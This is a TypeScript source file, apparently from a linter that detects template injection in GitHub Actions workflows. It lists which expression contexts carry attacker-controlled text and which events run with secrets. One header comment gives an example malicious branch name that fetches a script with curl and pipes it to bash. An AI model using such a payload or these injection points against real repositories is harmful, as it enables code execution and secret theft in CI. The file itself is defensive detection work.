/**
 * Which expression contexts can carry text that someone without write access chose, for
 * `template-injection`. Our own list, built from GitHub's webhook payload documentation and the
 * character rules GitHub enforces on names. Paths are lower case, `*` matches one segment (an
 * array index), and a pattern also covers the whole object above it (`toJSON(github.event)` holds
 * the issue title).
 *
 * The list names what is attacker-controlled instead of what is safe: an unknown field is not
 * reported. Every entry below is free text up to GitHub's length limits, or a git ref name, which
 * may contain `$`, `(`, `)`, `{`, `}`, `;`, `|`, `&`, backticks and quotes (only spaces, `~^:?*[\`
 * and control characters are forbidden), so `$({curl,-sSfL,evil.sh}${IFS}|${IFS}bash)` is a valid
 * branch name, as the Ultralytics attack showed.
 */

export interface FreeTextContext {
  pattern: string;
  /** Events whose payload fills it; empty means the context is filled for every event. */
  events: string[];
  /** Who writes it, for messages. */
  author: string;
}

const PULL_REQUEST_EVENTS = ['pull_request', 'pull_request_target', 'pull_request_review', 'pull_request_review_comment'];
const COMMENT_EVENTS = ['issue_comment', 'pull_request_review_comment', 'discussion_comment', 'commit_comment'];

export const FREE_TEXT_CONTEXTS: FreeTextContext[] = [
  { pattern: 'github.head_ref', events: PULL_REQUEST_EVENTS, author: 'the pull request author (branch name)' },
  { pattern: 'github.event.pull_request.title', events: PULL_REQUEST_EVENTS, author: 'the pull request author' },
  { pattern: 'github.event.pull_request.body', events: PULL_REQUEST_EVENTS, author: 'the pull request author' },
  { pattern: 'github.event.pull_request.head.ref', events: PULL_REQUEST_EVENTS, author: 'the pull request author (branch name)' },
  { pattern: 'github.event.pull_request.head.label', events: PULL_REQUEST_EVENTS, author: 'the pull request author (`owner:branch`)' },
  { pattern: 'github.event.pull_request.head.repo.description', events: PULL_REQUEST_EVENTS, author: 'the fork owner' },
  { pattern: 'github.event.pull_request.head.repo.homepage', events: PULL_REQUEST_EVENTS, author: 'the fork owner' },
  { pattern: 'github.event.pull_request.head.repo.default_branch', events: PULL_REQUEST_EVENTS, author: 'the fork owner (branch name)' },
  { pattern: 'github.event.issue.title', events: ['issues', 'issue_comment'], author: 'the issue author' },
  { pattern: 'github.event.issue.body', events: ['issues', 'issue_comment'], author: 'the issue author' },
  { pattern: 'github.event.comment.body', events: COMMENT_EVENTS, author: 'the commenter' },
  { pattern: 'github.event.review.body', events: ['pull_request_review'], author: 'the reviewer' },
  { pattern: 'github.event.review_comment.body', events: ['pull_request_review_comment'], author: 'the reviewer' },
  { pattern: 'github.event.discussion.title', events: ['discussion', 'discussion_comment'], author: 'the discussion author' },
  { pattern: 'github.event.discussion.body', events: ['discussion', 'discussion_comment'], author: 'the discussion author' },
  { pattern: 'github.event.pages.*.page_name', events: ['gollum'], author: 'the wiki editor' },
  { pattern: 'github.event.pages.*.title', events: ['gollum'], author: 'the wiki editor' },
  { pattern: 'github.event.pages.*.summary', events: ['gollum'], author: 'the wiki editor' },
  // Commits: a merged pull request keeps its author's messages and git identity (a squash merge
  // proposes the pull request title as the message).
  ...['head_commit', 'commits.*'].flatMap((base) =>
    ['message', 'author.name', 'author.email', 'committer.name', 'committer.email'].map((field) => ({
      pattern: `github.event.${base}.${field}`,
      events: ['push'],
      author: 'whoever wrote the commit (possibly a merged pull request)',
    })),
  ),
  { pattern: 'github.event.workflow_run.head_branch', events: ['workflow_run'], author: 'the author of the triggering run (a fork branch name)' },
  { pattern: 'github.event.workflow_run.display_title', events: ['workflow_run'], author: 'the author of the triggering run (a pull request title or commit message)' },
  ...['message', 'author.name', 'author.email', 'committer.name', 'committer.email'].map((field) => ({
    pattern: `github.event.workflow_run.head_commit.${field}`,
    events: ['workflow_run'],
    author: 'the author of the triggering commit',
  })),
  { pattern: 'github.event.workflow_run.head_repository.description', events: ['workflow_run'], author: 'the fork owner' },
  { pattern: 'github.event.workflow_run.pull_requests.*.head.ref', events: ['workflow_run'], author: 'the pull request author (branch name)' },
  { pattern: 'github.event.check_suite.head_branch', events: ['check_suite'], author: 'the pull request author (branch name)' },
  { pattern: 'github.event.check_suite.head_commit.message', events: ['check_suite'], author: 'the commit author' },
  { pattern: 'github.event.check_run.check_suite.head_branch', events: ['check_run'], author: 'the pull request author (branch name)' },
  { pattern: 'github.event.merge_group.head_commit.message', events: ['merge_group'], author: 'the pull request author (queued commit message)' },
];

/**
 * Values that are never free text, listed so the reasoning is written down (and a pattern above
 * can never match them): commit SHAs, numeric ids, numbers, node ids, timestamps, enumerations.
 * `needs.*.result`, `steps.*.outcome`/`conclusion`, `job.status` and `runner.os`/`arch` are
 * enumerations; `github.sha`, `github.event_name`, `github.run_id` are generated by GitHub.
 * Logins and repository names are restricted by GitHub to letters, digits and `-` (`_`, `.` for
 * repositories; `[bot]` for apps), so `github.actor` or `…head.repo.full_name` cannot break out
 * of a shell word either.
 */
const FIXED_SUFFIX = /(^|\.|_)(sha|id|number|node_id|run_id|run_number|run_attempt|size|count|login|full_name|name_with_owner|author_association|state|action|merged|draft|locked|fork|private|visibility|result|outcome|conclusion|status|os|arch|event_name|ref_type|[a-z]+_at)$/;

/** The `github.*` contexts that only people with write access (or GitHub) set. */
const WRITER_CONTEXTS = /^github\.(ref|ref_name|base_ref|repository|repository_owner|workflow|workflow_ref|job|action|action_path|server_url|api_url|graphql_url|workspace|token|triggering_actor|actor|event\.release\..*|event\.label\..*|event\.(pull_request|issue)\.labels\..*|event\.milestone\..*|event\.(pull_request|issue)\.milestone\..*|event\.deployment\..*)$/;

export type ContextKind =
  /** Free text from people without write access (see FREE_TEXT_CONTEXTS). */
  | 'free-text'
  /** `inputs.*`, `github.event.inputs.*`, `github.event.client_payload.*`: set by whoever dispatches or calls. */
  | 'caller-input'
  /** `steps.*.outputs.*`, `needs.*.outputs.*`, `jobs.*.outputs.*`: depends on what the step wrote. */
  | 'step-output'
  /** `env.*`: resolved through the env blocks when they are visible. */
  | 'env'
  /** Everything else: enumerations, hashes, ids, values set by maintainers. */
  | 'fixed';

export interface ContextClass {
  kind: ContextKind;
  /** The free-text entry that matched. */
  freeText?: FreeTextContext;
  /** For `caller-input`/`env`: the name after the prefix (`inputs.title` → `title`). */
  name?: string;
}

function matches(path: string, pattern: string): boolean {
  const parts = path.split('.');
  const want = pattern.split('.');
  if (parts.length > want.length) return false;
  // A shorter path is the object that holds the field (`toJSON(github.event.pull_request)`).
  return parts.every((part, index) => part === '*' || want[index] === '*' || part === want[index]);
}

/** Classifies one context path (`ContextRef.path`). */
export function classifyContext(written: string): ContextClass {
  // Property names are case-insensitive in expressions (`github.event.Issue.Title`).
  const path = written.toLowerCase();
  const inputs = /^(?:inputs|github\.event\.inputs)\.([^.]+)$/.exec(path);
  if (inputs) return { kind: 'caller-input', name: inputs[1] };
  if (path === 'inputs' || path === 'github.event.inputs') return { kind: 'caller-input', name: '*' };
  if (/^github\.event\.client_payload(\.|$)/.test(path)) return { kind: 'caller-input', name: path.slice('github.event.client_payload.'.length) || '*' };
  if (/^(steps|needs|jobs)\.[^.]+\.outputs(\.|$)/.test(path)) return { kind: 'step-output' };
  const env = /^env\.([^.]+)$/.exec(path);
  if (env) return { kind: 'env', name: env[1] };
  if (!path.startsWith('github')) return { kind: 'fixed' };
  if (WRITER_CONTEXTS.test(path)) return { kind: 'fixed' };
  const last = path.split('.').pop() ?? '';
  if (FIXED_SUFFIX.test(last)) return { kind: 'fixed' };
  // `github` or `github.event` as a whole (`toJSON(github.event)`) holds every field below.
  const found = FREE_TEXT_CONTEXTS.filter((entry) => matches(path, entry.pattern));
  if (!found.length) return { kind: 'fixed' };
  const exact = found.find((entry) => entry.pattern.split('.').length === path.split('.').length);
  if (exact) return { kind: 'free-text', freeText: exact };
  // An object dump holds whichever of its fields the event fills.
  const events = found.some((entry) => !entry.events.length) ? [] : [...new Set(found.flatMap((entry) => entry.events))];
  return { kind: 'free-text', freeText: { pattern: path, events, author: 'whoever wrote the free-text fields it contains' } };
}

/**
 * Events that do not need write access to start and run with the base repository's secrets
 * and token (or, for `workflow_run`, follow a run that fork pull requests start).
 * `commit_comment` is included: anyone can comment on a commit of a public repository.
 */
export const PRIVILEGED_TEXT_EVENTS = new Set([
  'pull_request_target',
  'issue_comment',
  'issues',
  'discussion',
  'discussion_comment',
  'workflow_run',
  'commit_comment',
  'check_suite',
  'check_run',
]);

/**
 * Events that run without the base repository's secrets and with a read-only token when the pull
 * request comes from a fork (reviews and review comments included).
 */
export const UNPRIVILEGED_TEXT_EVENTS = new Set(['pull_request', 'pull_request_review', 'pull_request_review_comment', 'merge_group']);

/**
 * Inputs that actions run as code. Kept to inputs whose action documents them as a script or
 * command line; an input that is only a path or a build context (docker/build-push-action
 * `context`) is data, not code.
 */
export const CODE_INPUTS: Record<string, { inputs: string[]; runs: string }> = {
  'actions/github-script': { inputs: ['script'], runs: 'JavaScript with an authenticated Octokit client' },
  'azure/cli': { inputs: ['inlinescript'], runs: 'a shell script after `az login`' },
  'azure/powershell': { inputs: ['inlinescript'], runs: 'a PowerShell script after `Connect-AzAccount`' },
  'amadevus/pwsh-script': { inputs: ['script'], runs: 'a PowerShell script' },
  'jannekem/run-python-script-action': { inputs: ['script'], runs: 'a Python script' },
  'appleboy/ssh-action': { inputs: ['script'], runs: 'a shell script on the remote host' },
  'nick-fields/retry': { inputs: ['command'], runs: 'a shell command' },
  'nick-invision/retry': { inputs: ['command'], runs: 'a shell command' },
  'wandalen/wretry.action': { inputs: ['command'], runs: 'a shell command' },
  'uraimo/run-on-arch-action': { inputs: ['run'], runs: 'a shell script in an emulated container' },
  'addnab/docker-run-action': { inputs: ['run'], runs: 'a shell script in a container' },
  'mikefarah/yq': { inputs: ['cmd'], runs: 'a shell command line' },
};
